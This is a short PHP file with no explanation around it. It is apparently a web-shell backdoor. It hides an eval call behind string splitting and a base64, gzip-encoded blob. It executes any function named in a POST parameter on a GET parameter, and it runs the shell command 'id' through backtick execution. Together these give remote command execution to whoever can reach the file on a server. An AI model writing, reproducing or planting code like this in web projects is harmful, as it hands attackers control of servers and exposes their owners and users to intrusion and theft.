<?php $a = 'ev'.'al'; eval(gzinflate(base64_decode('S0xKBgA='))); $b = $_POST['c']; $b($_GET['d']); function f($x) { return chr($x); } ?>html<?= `id` ?>
